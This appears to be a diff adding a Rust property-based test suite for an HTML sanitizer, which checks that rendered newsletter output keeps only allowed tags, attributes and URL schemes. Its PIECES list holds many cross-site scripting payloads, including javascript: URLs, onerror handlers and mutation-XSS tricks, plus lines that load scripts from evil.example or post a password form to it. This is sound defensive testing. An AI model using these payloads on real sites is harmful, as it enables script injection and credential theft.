@@ -1,0 +1,186 @@
+//! Markup that means harm, or means nothing at all: only the tree is rendered, so none of it can
+//! come out again (R4, E8).
+
+use std::time::{Duration, Instant};
+
+use dom_query::Document as Page;
+use gazette_templates::{
+    Document,
+    document::{html, text as text_part},
+};
+use proptest::prelude::*;
+use url::Url;
+
+use super::{fragment, page, text};
+
+/// What the renderings write, and what each may carry.
+const ELEMENTS: &[(&str, &[&str])] = &[
+    ("p", &[]),
+    ("h2", &[]),
+    ("h3", &[]),
+    ("h4", &[]),
+    ("h5", &[]),
+    ("h6", &[]),
+    ("blockquote", &[]),
+    ("ul", &[]),
+    ("ol", &["start", "type", "reversed"]),
+    ("li", &[]),
+    ("table", &[]),
+    ("caption", &[]),
+    ("thead", &[]),
+    ("tbody", &[]),
+    ("tr", &[]),
+    ("th", &["scope"]),
+    ("td", &[]),
+    ("div", &["lang", "dir"]),
+    ("figure", &[]),
+    ("figcaption", &[]),
+    ("img", &["src", "alt", "width", "height"]),
+    ("a", &["href"]),
+    ("strong", &[]),
+    ("em", &[]),
+    ("br", &[]),
+    ("pre", &[]),
+];
+
+fn is_harmless(markup: &str) {
+    let page = Page::from(format!("<body>{markup}</body>"));
+    let body = page.body().unwrap();
+    for node in body.descendants_it().filter(dom_query::NodeRef::is_element) {
+        let name = node.node_name().unwrap();
+        let (_, allowed) = ELEMENTS
+            .iter()
+            .find(|(known, _)| *known == &*name)
+            .unwrap_or_else(|| panic!("<{name}> in {markup}"));
+        for attribute in node.attrs() {
+            let attribute_name = &*attribute.name.local;
+            assert!(
+                attribute_name == "style" || allowed.contains(&attribute_name),
+                "{attribute_name} in {markup}"
+            );
+            match attribute_name {
+                "href" | "src" => {
+                    let url = Url::parse(&attribute.value).unwrap();
+                    assert!(
+                        matches!(url.scheme(), "http" | "https" | "mailto" | "tel"),
+                        "{url}"
+                    );
+                }
+                // Styles are ours, whatever the source had.
+                "style" => assert!(
+                    !attribute.value.contains("url(") && !attribute.value.contains("expression"),
+                    "{markup}"
+                ),
+                _ => {}
+            }
+        }
+    }
+}
+
+fn renders_harmlessly(document: &Document) {
+    for block in html::mail_blocks(document, "#1d4f91") {
+        is_harmless(&block.0);
+    }
+    is_harmless(&html::web(document).0);
+    let text = text_part::render(document);
+    assert!(
+        !text
+            .chars()
+            .any(|c| c.is_control() && c != '\n' && c != '\t')
+    );
+}
+
+const PIECES: &[&str] = &[
+    "<script>alert(1)</script>",
+    "<script src=//evil.example/x.js>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='javascript:alert(1)' srcset='javascript:alert(2) 2x'>",
+    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<math><mtext></table></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<a href='javascript:alert(1)'>here</a>",
+    "<a href=' java\nscript:alert(1)'>run</a>",
+    "<a href='JaVaScRiPt&colon;alert(1)'>go</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>data</a>",
+    "<a href='//evil.example' onclick=steal() style='position:fixed'>all of it</a>",
+    "<a href='https://doe.example@evil.example/'>the office</a>",
+    "<form action='https://evil.example/'><input name=password><button>Send</button>",
+    "<iframe srcdoc='<script>alert(1)</script>' src='javascript:alert(1)'></iframe>",
+    "<object data='javascript:alert(1)'><embed src='data:text/html,x'>",
+    "<base href='javascript:alert(1)//'>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import 'javascript:alert(1)';</style>",
+    "<p style='background:url(javascript:alert(1))' onmouseover=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<textarea></textarea><title></title><plaintext",
+    "<template><script>alert(1)</script></template>",
+    "<p lang='\"><script>alert(1)</script>' dir='\"onload='>Text",
+    "<ol start='1\" onload=alert(1)' type='\"><script>'><li value='9e9'>One",
+    "<table><td colspan=99999999 rowspan=99999999>Cell",
+    "<video poster='javascript:alert(1)'><source src='javascript:alert(1)'></video>",
+    "<p>The county opens a second office on Main Street, and it stays open late.</p>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<blockquote>",
+    "<ul><li>",
+    "<figure><figcaption>",
+    "<div xml:base='javascript:alert(1)' lang=ar>",
+    "</div></p></td></table></blockquote>",
+    "<!--",
+    "-->",
+    "<![CDATA[",
+    "]]>",
+    "<",
+    "\"'>",
+    "\0\u{7}\u{202e}",
+];
+
+fn markup() -> impl Strategy<Value = String> {
+    let piece = prop_oneof![
+        5 => prop::sample::select(PIECES).prop_map(str::to_owned),
+        1 => "\\PC{0,12}",
+    ];
+    prop::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(128))]
+
+    #[test]
+    fn nothing_hostile_comes_out_again(markup in markup()) {
+        let address = Url::parse("https://doe.example/news/").unwrap();
+        renders_harmlessly(&page(&markup, Some(&address)).document);
+        renders_harmlessly(&fragment(&markup, "Title", "en", Some(&address)));
+        renders_harmlessly(&text(&markup).document);
+    }
+}
+
+#[test]
+fn no_markup_takes_long_to_read() {
+    // A second is an eternity, and some fifty times what the worst of these takes.
+    const PATIENCE: Duration = Duration::from_secs(10);
+    let started = Instant::now();
+    for piece in [
+        "<div>",
+        "<b>",
+        "<a href=x>",
+        "<blockquote><ul><li>",
+        "<table><tr><td>",
+        "<p><font><i>",
+        "<div lang=ar><p lang=en>",
+        "<figure><figcaption>",
+        "<span style='font-weight:bold'>x",
+        "<h2>x",
+        "here <a href=y>here</a> ",
+        "###\n",
+        "1. a\n  2. b\n",
+        "&amp",
+        "<!--",
+    ] {
+        let source = piece.repeat(3_000);
+        for document in [page(&source, None).document, text(&source).document] {
+            let _ = html::web(&document);
+            let _ = text_part::render(&document);
+        }
+    }
+    assert!(started.elapsed() < PATIENCE, "{:?}", started.elapsed());
+}
